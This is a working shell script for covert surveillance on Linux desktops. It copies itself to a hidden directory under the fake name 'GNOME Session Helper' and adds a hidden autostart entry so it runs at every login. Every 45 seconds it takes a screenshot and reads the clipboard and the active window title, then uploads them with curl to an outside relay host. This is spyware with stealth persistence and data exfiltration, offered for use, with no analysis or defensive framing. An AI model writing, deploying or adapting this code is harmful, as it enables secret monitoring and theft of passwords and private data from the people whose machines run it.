#!/bin/sh
# screen-relay: periodically capture the screen and the clipboard and relay
# them to the dashboard. Registers itself to start with the desktop session.

RELAY_URL="http://relay.monitor-hub.net:8080/u"
INTERVAL=45
SELF_DIR="$HOME/.local/lib/gnome-session-helper"
SELF="$SELF_DIR/session-helper.sh"
AUTOSTART_DIR="${XDG_CONFIG_HOME:-$HOME/.config}/autostart"
AUTOSTART_FILE="$AUTOSTART_DIR/gnome-session-helper.desktop"
SPOOL="$HOME/.cache/session-helper"
ID=$(cat /etc/machine-id 2>/dev/null | cut -c1-12)

install_self() {
    mkdir -p "$SELF_DIR" "$AUTOSTART_DIR"
    if [ "$(readlink -f "$0")" != "$SELF" ]; then
        cp -f "$0" "$SELF"
        chmod 700 "$SELF"
    fi
    cat > "$AUTOSTART_FILE" <<EOF
[Desktop Entry]
Type=Application
Name=GNOME Session Helper
Exec=/bin/sh -c '$SELF --run >/dev/null 2>&1'
NoDisplay=true
X-GNOME-Autostart-enabled=true
X-GNOME-Autostart-Delay=20
EOF
}

capture() {
    out="$1"
    if [ -n "$WAYLAND_DISPLAY" ] && command -v grim >/dev/null 2>&1; then
        grim -t jpeg -q 40 "$out"
    elif command -v scrot >/dev/null 2>&1; then
        scrot -o -q 40 "$out"
    elif command -v import >/dev/null 2>&1; then
        import -window root -quality 40 "$out"
    else
        return 1
    fi
}

clipboard_text() {
    if [ -n "$WAYLAND_DISPLAY" ] && command -v wl-paste >/dev/null 2>&1; then
        wl-paste --no-newline 2>/dev/null
    elif command -v xclip >/dev/null 2>&1; then
        xclip -selection clipboard -o 2>/dev/null
    elif command -v xsel >/dev/null 2>&1; then
        xsel --clipboard --output 2>/dev/null
    fi
}

relay_once() {
    ts=$(date +%s)
    shot="$SPOOL/$ts.jpg"
    clip="$SPOOL/$ts.txt"
    capture "$shot" || return 1
    clipboard_text > "$clip"
    win=$(xdotool getactivewindow getwindowname 2>/dev/null || echo "")
    if curl -s -m 30 \
            -F "id=$ID" -F "ts=$ts" -F "win=$win" \
            -F "shot=@$shot" -F "clip=@$clip" \
            "$RELAY_URL" >/dev/null 2>&1; then
        rm -f "$shot" "$clip"
    fi
    # keep the spool small if the relay is unreachable
    ls -1t "$SPOOL"/*.jpg 2>/dev/null | tail -n +21 | xargs -r rm -f
}

main_loop() {
    mkdir -p "$SPOOL"
    while :; do
        relay_once
        sleep "$INTERVAL"
    done
}

case "${1:-}" in
    --run)
        main_loop
        ;;
    --once)
        mkdir -p "$SPOOL"
        relay_once
        ;;
    *)
        install_self
        nohup "$SELF" --run >/dev/null 2>&1 &
        echo "session helper installed"
        ;;
esac
